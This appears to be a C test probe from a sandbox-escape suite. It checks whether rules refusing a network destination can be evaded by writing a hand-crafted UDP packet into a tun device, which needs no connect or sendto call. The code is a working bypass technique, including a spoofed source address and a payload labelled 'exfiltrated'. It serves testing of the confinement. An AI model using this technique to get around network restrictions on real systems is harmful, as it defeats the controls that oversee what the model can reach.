/* net_tun: a datagram for a refused address written into a tun device.
 *
 * Address rules see the addresses of socket calls; a socket that writes its own IP header
 * (raw, packet) is not made under them.  A tun device is no socket: a file, /dev/net/tun,
 * whose writes are IP packets the kernel receives as if from a network (tun_get_user ->
 * netif_rx): one for an address of this host is delivered to the socket listening there,
 * with no connect, sendto or sendmsg anywhere.
 *
 *   net_tun MODE DEST PORT [NAME]
 *
 * Refused: DEST (net-connect, any port), an address of this host (not loopback: a packet
 * for 127/8 arriving on another interface is a martian).  The test's UDP listener on
 * DEST:PORT, outside the tree, is the witness.
 *
 * MODE: tun     TUNSETIFF (a new tun interface: CAP_NET_ADMIN), up with SIOCSIFFLAGS, then
 *               one IPv4 UDP packet 198.51.100.7 -> DEST:PORT written to it
 *       attach  TUNSETIFF on NAME, a persistent tun interface that is up, owned by the caller
 *               (`ip tuntap add mode tun user alice`, as a VPN is set up): no capability
 *               needed; then the same packet
 *       direct  UDP sendto DEST:PORT: the rule and the witness at work
 * Class 7 (network: a destination chosen outside any address).  tun needs root; attach
 * an interface made for the caller.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

static uint16_t checksum(const void *data, size_t len) {
    const uint16_t *p = data;
    uint32_t sum = 0;
    for (; len > 1; len -= 2)
        sum += *p++;
    if (len)
        sum += *(const uint8_t *)p;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

int main(int argc, char **argv) {
    if (argc < 4)
        usage("net_tun MODE DEST PORT");
    const char *mode = argv[1];
    int port = atoi(argv[3]);
    char msg[] = "exfiltrated";
    struct in_addr dest;
    if (inet_pton(AF_INET, argv[2], &dest) != 1)
        usage("DEST: an IPv4 address");
    if (!strcmp(mode, "direct")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = dest};
        if (sendto(s, msg, sizeof msg, 0, (struct sockaddr *)&to, sizeof to) < 0)
            blocked("sendto: %s", ename(errno));
        escaped("sendto %s:%d ran", argv[2], port);
    }
    int attach = !strcmp(mode, "attach");
    if (strcmp(mode, "tun") && !(attach && argc > 4))
        usage("MODE: tun direct, or attach with NAME");
    int t = open("/dev/net/tun", O_RDWR);
    if (t < 0)
        blocked("open /dev/net/tun: %s", ename(errno));
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    ifr.ifr_flags = IFF_TUN | IFF_NO_PI;
    snprintf(ifr.ifr_name, IFNAMSIZ, "%s", attach ? argv[4] : "rt7tun%d");
    if (ioctl(t, TUNSETIFF, &ifr) < 0)
        blocked("TUNSETIFF: %s", ename(errno));
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        blocked("socket: %s", ename(errno));
    if (ioctl(s, SIOCGIFFLAGS, &ifr) < 0)
        blocked("SIOCGIFFLAGS: %s", ename(errno));
    if (!(ifr.ifr_flags & IFF_UP)) {
        ifr.ifr_flags |= IFF_UP;
        if (ioctl(s, SIOCSIFFLAGS, &ifr) < 0)
            blocked("SIOCSIFFLAGS: %s", ename(errno));
    }
    note("interface %s up", ifr.ifr_name);
    unsigned char packet[sizeof(struct iphdr) + sizeof(struct udphdr) + sizeof msg];
    memset(packet, 0, sizeof packet);
    struct iphdr *ip = (struct iphdr *)packet;
    struct udphdr *udp = (struct udphdr *)(ip + 1);
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(sizeof packet);
    inet_pton(AF_INET, "198.51.100.7", &ip->saddr);
    ip->daddr = dest.s_addr;
    ip->check = checksum(ip, sizeof *ip);
    udp->source = htons(40000);
    udp->dest = htons(port);
    udp->len = htons(sizeof(struct udphdr) + sizeof msg);
    udp->check = 0;  /* none: allowed for UDP over IPv4 */
    memcpy(udp + 1, msg, sizeof msg);
    int n = 0;
    for (int i = 0; i < 3; i++) {  /* (the first may race the interface coming up) */
        n = (int)write(t, packet, sizeof packet);
        usleep(100000);
    }
    if (n < 0)
        blocked("write to the tun device: %s", ename(errno));
    escaped("wrote a packet for %s:%d into %s", argv[2], port, ifr.ifr_name);
}
